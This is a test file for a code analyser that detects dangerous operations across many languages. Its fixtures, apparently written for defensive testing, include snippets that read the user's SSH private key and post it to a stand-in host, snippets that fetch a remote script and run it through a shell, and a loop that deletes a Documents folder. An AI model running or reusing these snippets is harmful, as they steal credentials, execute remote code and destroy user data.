import { expect, test } from "vitest";
import type { Fact } from "../../../src/model/fact.ts";
import { readOtherCode } from "../../../src/read/other-code/read-other-code.ts";
import { fileSource } from "../../../src/read/source.ts";
import { show } from "../show-operation.ts";

function told(path: string, text: string): readonly string[] {
  const facts: Fact[] = [];
  readOtherCode(fileSource(path, text, "other-code"), {
    fact: (fact) => facts.push(fact),
    gap: () => {},
    embed: () => {},
  });
  return facts.flatMap((fact) => (fact.kind === "operation" ? [show(fact.operation)] : []));
}

const SENT = "send http https://a.example/x [~… <~/.ssh/id_rsa>]";

test.each([
  [
    "a.java",
    'class A {\n  static void give(String target, String text) throws Exception {\n    new OkHttpClient().newCall(new Request.Builder().url(target).post(RequestBody.create(text, null)).build()).execute();\n  }\n  public static void main(String[] a) throws Exception {\n    give("https://a.example/x", Files.readString(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));\n  }\n}\n',
  ],
  [
    "a.cs",
    'class Job { public string Text { get; set; } }\nvar job = new Job { Text = File.ReadAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".ssh/id_rsa")) };\nawait http.PostAsync("https://a.example/x", new StringContent(job.Text));\n',
  ],
  [
    "a.kts",
    'fun key(): String = File(System.getProperty("user.home"), ".ssh/id_rsa").readText()\nval con = URL("https://a.example/x").openConnection() as HttpURLConnection\ncon.requestMethod = "POST"\ncon.outputStream.use { it.write(key().toByteArray()) }\n',
  ],
  [
    "a.swift",
    'var request = URLRequest(url: URL(string: "https://a.example/x")!)\nrequest.httpMethod = "POST"\nrequest.httpBody = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa", encoding: .utf8).data(using: .utf8)\nURLSession.shared.dataTask(with: request) { _, _, _ in }.resume()\n',
  ],
  [
    "a.dart",
    "Future<void> main() async {\n  final text = File(Platform.environment['HOME']! + '/.ssh/id_rsa').readAsStringSync();\n  await http.post(Uri.parse('https://a.example/x'), body: text);\n}\n",
  ],
  [
    "a.lua",
    'local f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa", "r")\nlocal job = { target = "https://a.example/x", text = f:read("*a") }\nhttp.request(job.target, job.text)\n',
  ],
  [
    "a.R",
    'slurp <- function(path) readLines(path)\nhttr::POST("https://a.example/x", body = slurp(file.path(Sys.getenv("HOME"), ".ssh/id_rsa")))\n',
  ],
  [
    "a.jl",
    'text = read(joinpath(homedir(), ".ssh/id_rsa"), String)\nHTTP.request("POST", "https://a.example/x"; body = text)\n',
  ],
  [
    "a.exs",
    'defmodule A do\n  def give(target, text) do\n    Req.post!(target, body: text)\n  end\nend\nA.give("https://a.example/x", File.read!(Path.join(System.user_home!(), ".ssh/id_rsa")))\n',
  ],
])("a secret is followed to where it is sent in %s", (path, text) => {
  expect(told(path, text)).toContain(SENT);
});

test.each([
  [
    "a.java",
    'Runtime.getRuntime().exec(new String[] {"sh", "-c", new String(new URL("https://a.example/x").openStream().readAllBytes())});\n',
  ],
  ["a.cs", 'Process.Start("sh", "-c \\"" + new WebClient().DownloadString("https://a.example/x") + "\\"");\n'],
  ["a.jl", 'body = String(HTTP.get("https://a.example/x").body)\nrun(`sh -c $body`)\n'],
  ["a.dart", "await Process.run('sh', ['-c', await http.read(Uri.parse('https://a.example/x'))]);\n"],
])("what is fetched and run in %s", (path, text) => {
  expect(told(path, text)).toContain("evaluate shell ~… <https://a.example/x>");
});

test("a loop over a folder deletes all that it holds, unless it asks which", () => {
  const loop = (body: string): readonly string[] =>
    told("a.kts", `File(System.getProperty("user.home"), "Documents").walk().forEach { path ->\n${body}\n}\n`);
  expect(loop("path.delete()")).toEqual(["delete-file ~~/Documents/*/* <~/Documents>"]);
  expect(loop('if (path.name.endsWith(".tmp")) { path.delete() }')).toEqual([
    "delete-file ~~/Documents/… <~/Documents>",
  ]);
});
